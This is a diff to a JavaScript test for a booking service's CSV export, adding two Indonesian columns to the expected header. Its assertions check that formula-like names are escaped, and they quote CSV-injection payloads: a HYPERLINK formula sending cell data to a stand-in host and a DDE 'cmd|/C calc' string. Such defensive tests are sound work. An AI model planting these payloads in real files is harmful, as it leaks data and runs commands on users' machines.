@@ -23,7 +23,7 @@ it('exports booking names that look like formulas as text (CSV injection)', asyn
   const csv = await t.app.inject({ url: `/api/v1/sites/${f.siteId}/bookings/export?date=2026-11-26&format=csv`, headers: bearer(admin) });
   expect(csv.statusCode).toBe(200);
   const lines = csv.body.split('\r\n');
-  expect(lines[0]).toBe('Kode,Layanan,Mulai,Selesai,Status,Nama,NIK,Telepon,Check-in');
+  expect(lines[0]).toBe('Kode,Layanan,Mulai,Selesai,Status,Nama,NIK,Telepon,Check-in,Dipindahkan ke,Pindahan dari');
   expect(lines).toHaveLength(names.length + 2);
   expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""Klik"")"`);
   expect(csv.body).toContain(`,'@SUM(1+1)*cmd|/C calc!A0,`);
